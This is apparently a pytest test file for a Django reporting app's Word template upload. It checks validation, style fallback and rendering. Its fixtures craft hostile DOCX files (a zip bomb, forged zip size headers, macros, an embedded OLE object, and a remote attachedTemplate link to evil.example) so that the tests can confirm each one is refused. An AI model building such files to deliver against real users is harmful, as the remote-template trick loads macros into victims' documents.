"""A programme's own Word template: a lead uploads, replaces and removes it; bad files are
refused with a message naming them and change nothing (not a DOCX, an old .doc, a zip bomb, a
zip whose sizes lie, macros); a template lacking styles is taken and the engine's are used for
those, which the page and the rendered file say; the DOCX is built on it (its cover, headers
and styles kept, its sample text gone). A render that fails halfway keeps nothing."""

from __future__ import annotations

import hashlib
import io
import os
import re
import struct
import subprocess
import zipfile
from pathlib import Path
from typing import Any
from unittest import mock

import docx
import pytest
from django.core.files.storage import FileSystemStorage
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from django.utils.html import escape
from docx.enum.text import WD_BREAK

from amniyat.accounts.models import Membership, Programme, User
from amniyat.audit.models import AuditEvent
from amniyat.fieldwork.models import Assessment
from amniyat.reports import services
from amniyat.reports.models import Rendering, Report, ReportTemplate, Section
from tests.factories import ProgrammeFactory, member_of
from tests.reports.test_built_findings import _published, assessment  # noqa: F401

Role = Membership.Role
DOCUMENT = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"


def _zip(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def _parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def make_template(
    *,
    cover: str = "",
    header: str = "",
    without: tuple[str, ...] = (),
    macros: bool = False,
    dotx: bool = False,
) -> bytes:
    """A Word template: a cover page (then a page break), sample text, a header; without the
    styles named (as styles.xml names them), with macros, or as a .dotx."""
    document = docx.Document()
    if cover:
        document.add_paragraph(cover)
        document.add_paragraph().add_run().add_break(WD_BREAK.PAGE)
    document.add_paragraph("SAMPLE-BODY of the template")
    if header:
        document.sections[0].header.paragraphs[0].text = header
    out = io.BytesIO()
    document.save(out)
    parts = _parts(out.getvalue())
    if without:
        styles = parts["word/styles.xml"].decode()
        for name in without:
            styles = re.sub(
                rf'<w:style [^>]*>(?:(?!</w:style>).)*<w:name w:val="{name}"/>.*?</w:style>',
                "",
                styles,
                flags=re.S,
            )
        parts["word/styles.xml"] = styles.encode()
    types = parts["[Content_Types].xml"].decode()
    if macros:
        parts["word/vbaProject.bin"] = b"\x00" * 64
        types = types.replace(DOCUMENT, "application/vnd.ms-word.document.macroEnabled.main+xml")
    if dotx:
        types = types.replace(DOCUMENT, DOCUMENT.replace("document.main", "template.main"))
    parts["[Content_Types].xml"] = types.encode()
    return _zip(parts)


def _bomb() -> bytes:
    return _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"\0" * (30 * 2**20)})


def _lying_sizes() -> bytes:
    """A DOCX whose headers say its document part unpacks to 100 bytes; it unpacks to 200 kB."""
    parts = _parts(make_template())
    parts["word/document.xml"] += b" " * 200_000
    data = bytearray(_zip(parts))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        local = archive.getinfo("word/document.xml").header_offset
    data[local + 22 : local + 26] = struct.pack("<I", 100)  # the local header's size
    entry = data.find(b"PK\x01\x02")
    while data[entry + 46 : entry + 46 + len(b"word/document.xml")] != b"word/document.xml":
        entry = data.find(b"PK\x01\x02", entry + 4)
    data[entry + 24 : entry + 28] = struct.pack("<I", 100)  # the central directory's
    return bytes(data)


@pytest.fixture
def programme(db: None, settings: Any, tmp_path: Path) -> Programme:
    settings.MEDIA_ROOT = tmp_path / "media"
    return ProgrammeFactory(slug="tj")


@pytest.fixture
def lead(programme: Programme) -> User:
    return member_of(programme, Role.LEAD)


def _client(user: User) -> Client:
    client = Client()
    client.force_login(user)
    return client


def _upload(client: Client, name: str, data: bytes) -> Any:
    upload = io.BytesIO(data)
    upload.name = name
    return client.post("/p/tj/reports/template/", {"file": upload})


def _stored(programme: Programme) -> list[Any]:
    return list(ReportTemplate.objects.filter(programme=programme).values())


def test_a_lead_uploads_replaces_and_removes_the_template(
    programme: Programme, lead: User, django_capture_on_commit_callbacks: Any
) -> None:
    client = _client(lead)
    data = make_template(cover="COVER-MARK", header="HEADER-MARK")
    assert client.get(reverse("reports:list", args=["tj"])).content.count(b"/reports/template/")
    response = _upload(client, "Programme template.docx", data)
    assert response.status_code == 302
    template = ReportTemplate.objects.get(programme=programme)
    assert template.name == "Programme template.docx" and template.uploaded_by == lead
    assert template.sha256 == hashlib.sha256(data).hexdigest() and template.size == len(data)
    assert template.styles_missing == [] and "Heading 1" in template.styles_found
    with template.file.open("rb") as stored:
        assert not stored.read().startswith(b"PK")  # encrypted at rest
    assert services.template_content(template) == data
    page = client.get("/p/tj/reports/template/").content.decode()
    assert "Programme template.docx" in page and "It has every style" in page
    # Replaced: the new one is kept, the old file removed once the change is committed.
    first_file = template.file.name
    with django_capture_on_commit_callbacks(execute=True):
        assert _upload(client, "second.dotx", make_template(dotx=True)).status_code == 302
    template = ReportTemplate.objects.get(programme=programme)
    assert template.name == "second.dotx" and template.file.name != first_file
    assert not template.file.storage.exists(first_file)
    # A .dotx is kept as the document it describes: python-docx opens it.
    docx.Document(io.BytesIO(services.template_content(template)))
    with django_capture_on_commit_callbacks(execute=True):
        client.post("/p/tj/reports/template/", {"action": "remove"})
    assert not ReportTemplate.objects.exists()
    assert not template.file.storage.exists(template.file.name)
    verbs = AuditEvent.objects.filter(object_type__endswith="reporttemplate").values_list(
        "verb", flat=True
    )
    assert sorted(verbs) == ["created", "deleted", "updated"]


@pytest.mark.parametrize("role", [Role.ANALYST, Role.FACILITATOR, Role.VIEWER])
def test_only_leads_see_the_template_page(programme: Programme, role: str) -> None:
    client = _client(member_of(programme, role))
    assert client.get("/p/tj/reports/template/").status_code == 404
    assert _upload(client, "t.docx", make_template()).status_code == 404
    assert not ReportTemplate.objects.exists()


# Word fetches an attached template from its address when the document opens: the "remote
# template" way of getting macros into a document that has none.
REMOTE_TEMPLATE = {
    "word/_rels/settings.xml.rels": b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
    b'TargetMode="External"/></Relationships>'
}


def _with(extra: dict[str, bytes]) -> bytes:
    return _zip({**_parts(make_template()), **extra})


BAD_FILES = [
    ("random.docx", lambda: os.urandom(3000), "is not a Word document (.docx)"),
    (
        "no-document.docx",
        lambda: _zip({"[Content_Types].xml": b"<Types/>", "word/styles.xml": b"<x/>"}),
        "is not a Word document (.docx)",
    ),
    (
        "broken-xml.docx",
        lambda: _zip({**_parts(make_template()), "word/document.xml": b"<w:document"}),
        "is not a Word document (.docx)",
    ),
    ("old.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4000, "old Word file"),
    ("bomb.docx", _bomb, "looks like a zip bomb"),
    ("lying.docx", _lying_sizes, "cannot be read from the archive"),
    ("macros.docm", lambda: make_template(macros=True), "contains macros"),
    ("remote.docx", lambda: _with(REMOTE_TEMPLATE), "refers to a file on another server"),
    ("ole.docx", lambda: _with({"word/embeddings/oleObject1.bin": b"\0" * 64}), "embedded"),
]


@pytest.mark.parametrize(("name", "data", "message"), BAD_FILES, ids=[b[0] for b in BAD_FILES])
def test_a_bad_template_is_refused_naming_the_file_and_nothing_changes(
    programme: Programme, lead: User, name: str, data: Any, message: str
) -> None:
    client = _client(lead)
    assert _upload(client, "good.docx", make_template()).status_code == 302
    before, events = _stored(programme), AuditEvent.objects.count()
    response = _upload(client, name, data())
    assert response.status_code == 200
    body = response.content.decode()
    errors = re.findall(r'class="error" role="alert">([^<]*)<', body)
    assert any(escape(f"“{name}”") in e and escape(message) in e for e in errors), errors
    assert _stored(programme) == before and AuditEvent.objects.count() == events


def test_an_empty_post_says_what_is_missing(programme: Programme, lead: User) -> None:
    response = _client(lead).post("/p/tj/reports/template/", {"csrfmiddlewaretoken": "x"})
    assert response.status_code == 200 and "This field is required." in response.content.decode()
    assert not ReportTemplate.objects.exists()


def _report(programme: Programme) -> Report:
    analyst = member_of(programme, Role.ANALYST)
    report = services.report_create(
        user=analyst, programme=programme, kind="briefing", language="ru", title="Брифинг"
    )
    summary = report.sections.get(kind=Section.Kind.TEXT)
    services.section_update(
        user=analyst,
        section=summary,
        heading="Резюме",
        text="### Подробно\n\nТекст.[^1]\n\n- один\n- два\n\n[^1]: Сноска.",
    )
    report.analyst = analyst  # type: ignore[attr-defined]
    return report


def _render(report: Report) -> tuple[Rendering, bytes]:
    rendering = services.rendering_start(
        user=report.analyst,  # type: ignore[attr-defined]
        report=report,
        file_format="docx",
        queue=False,
    )
    rendering = services.rendering_run(rendering.pk)
    assert rendering.status == Rendering.Status.READY, rendering.error
    pieces = services.rendering_open(user=report.analyst, rendering=rendering)  # type: ignore[attr-defined]
    assert pieces is not None
    return rendering, b"".join(pieces)


def test_the_docx_is_built_on_the_template(programme: Programme, lead: User) -> None:
    data = make_template(cover="COVER-MARK", header="HEADER-MARK")
    services.template_upload(user=lead, programme=programme, file_name="t.docx", content=data)
    report = _report(programme)
    rendering, content = _render(report)
    assert rendering.template_sha256 == hashlib.sha256(data).hexdigest()
    assert rendering.styles_fallback == []
    read = docx.Document(io.BytesIO(content))
    texts = [p.text for p in read.paragraphs]
    assert texts[0] == "COVER-MARK"  # the cover page kept, first
    assert "SAMPLE-BODY of the template" not in texts  # its sample text gone
    assert "Брифинг" in [p.text for p in read.paragraphs if p.style.name == "Title"]
    assert "HEADER-MARK" in read.sections[-1].header.paragraphs[0].text
    assert "Резюме" in [p.text for p in read.paragraphs if p.style.name == "Heading 1"]
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        assert "Сноска." in package.read("word/footnotes.xml").decode()
    # Without a template, the engine's own.
    services.template_remove(user=lead, programme=programme)
    plain, content = _render(report)
    assert plain.template_sha256 == "" and "COVER-MARK" not in [
        p.text for p in docx.Document(io.BytesIO(content)).paragraphs
    ]


def test_a_template_with_footnotes_page_numbers_and_fields_of_its_own(
    programme: Programme, lead: User
) -> None:
    """The engine's own DOCX as a template: its footnotes part (separators and a note), its
    footer's page number and its update-fields setting are Word's kind of template parts, and
    are reused, never doubled."""
    report = _report(programme)
    _, own = _render(report)
    services.template_upload(user=lead, programme=programme, file_name="own.docx", content=own)
    _, built = _render(report)
    with zipfile.ZipFile(io.BytesIO(built)) as package:
        names = package.namelist()
        assert names.count("word/footnotes.xml") == 1
        notes = package.read("word/footnotes.xml").decode()
        settings = package.read("word/settings.xml").decode()
        footers = [package.read(n).decode() for n in names if n.startswith("word/footer")]
    assert notes.count("Сноска.") == 1 and 'w:type="separator"' in notes
    assert settings.count("w:updateFields") == 1
    assert sum(f.count('w:instr="PAGE"') for f in footers) == 1
    read = docx.Document(io.BytesIO(built))
    assert [p.text for p in read.paragraphs].count("Брифинг") == 1  # the old body is gone


def test_a_template_without_some_styles_falls_back_and_says_so(
    programme: Programme, lead: User
) -> None:
    client = _client(lead)
    data = make_template(without=("heading 3", "caption", "List Bullet"))
    assert _upload(client, "plain.docx", data).status_code == 302
    template = ReportTemplate.objects.get()
    assert template.styles_missing == ["Heading 3", "Caption", "List Bullet"]
    page = client.get("/p/tj/reports/template/").content.decode()
    assert "lacks some of the styles" in page and "Caption" in page
    report = _report(programme)
    rendering, content = _render(report)
    assert rendering.styles_fallback == ["Heading 3", "Caption", "List Bullet"]
    read = docx.Document(io.BytesIO(content))
    styles = {s.name for s in read.styles}
    assert {"Heading 3", "Caption", "List Bullet"} <= styles
    assert "Подробно" in [p.text for p in read.paragraphs if p.style.name == "Heading 3"]
    # The bulleted list numbers with a list definition the document has.
    bullet = read.styles["List Bullet"].element
    (num_id,) = bullet.xpath("./w:pPr/w:numPr/w:numId/@w:val")
    assert read.part.numbering_part.element.num_having_numId(int(num_id)) is not None
    detail = _client(report.analyst).get(  # type: ignore[attr-defined]
        reverse("reports:detail", args=["tj", report.pk])
    )
    assert "It lacks these styles" in detail.content.decode()
    # LibreOffice opens it.
    folder = Path(template.file.storage.path("")).parent / "lo"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "built.docx").write_bytes(content)
    subprocess.run(  # noqa: S603 (LibreOffice on a file this test wrote)
        [
            "/usr/bin/soffice",
            f"-env:UserInstallation=file://{folder}/profile",
            "--headless",
            "--convert-to",
            "pdf",
            "--outdir",
            str(folder),
            str(folder / "built.docx"),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    text = subprocess.run(  # noqa: S603 (pdftotext on the file LibreOffice wrote)
        ["/usr/bin/pdftotext", str(folder / "built.pdf"), "-"],
        capture_output=True,
        check=True,
    ).stdout.decode()
    assert "Подробно" in text and "Брифинг" in text


def test_the_command_line_builds_on_the_template_too(
    assessment: Assessment,  # noqa: F811
    settings: Any,
    tmp_path: Path,
) -> None:
    settings.MEDIA_ROOT = tmp_path / "media"
    programme = assessment.programme
    lead = member_of(programme, Role.LEAD)
    _published(assessment, lead)
    data = make_template(cover="COVER-MARK", without=("caption",))
    services.template_upload(user=lead, programme=programme, file_name="t.docx", content=data)
    target, err = tmp_path / "briefing.docx", io.StringIO()
    call_command(
        "report",
        "build",
        *("--programme", programme.slug, "--assessment", str(assessment.pk)),
        *("--language", "en", "--format", "docx", "--output", str(target)),
        stdout=io.StringIO(),
        stderr=err,
    )
    read = docx.Document(str(target))
    assert read.paragraphs[0].text == "COVER-MARK"
    assert "Caption" in {s.name for s in read.styles}
    assert "lacks these styles" in err.getvalue() and "Caption" in err.getvalue()


# ----------------------------------------------------------------------------------------
# A render that fails halfway keeps nothing.


def _files(root: Path) -> list[Path]:
    return [p for p in (root / "reports").rglob("*") if p.is_file()] if root.exists() else []


def test_a_render_failing_halfway_keeps_no_half_written_file(
    programme: Programme, settings: Any
) -> None:
    report = _report(programme)
    media = Path(settings.MEDIA_ROOT)

    def half_then_fail(drawn: Any, target: Any, **kwargs: Any) -> list[str]:
        target.write(b"PK\x03\x04 half a document")
        raise RuntimeError("out of memory")

    def storage_fails_midway(self: Any, name: str, content: Any) -> str:
        path = Path(self.path(name))
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content.read(100))  # the storage wrote a part, then the disk filled
        raise OSError(28, "No space left on device")

    for patch in (
        mock.patch("amniyat.reports.word.write", side_effect=half_then_fail),
        mock.patch.object(FileSystemStorage, "_save", storage_fails_midway),
    ):
        rendering = services.rendering_start(
            user=report.analyst,  # type: ignore[attr-defined]
            report=report,
            file_format="docx",
            queue=False,
        )
        with patch:
            services.rendering_run(rendering.pk)
        rendering.refresh_from_db()
        assert rendering.status == Rendering.Status.FAILED
        assert not rendering.file and rendering.sha256 == "" and rendering.size == 0
        assert "could not be written" in rendering.error
        assert _files(media) == []
        assert services.rendering_open(user=report.analyst, rendering=rendering) is None  # type: ignore[attr-defined]
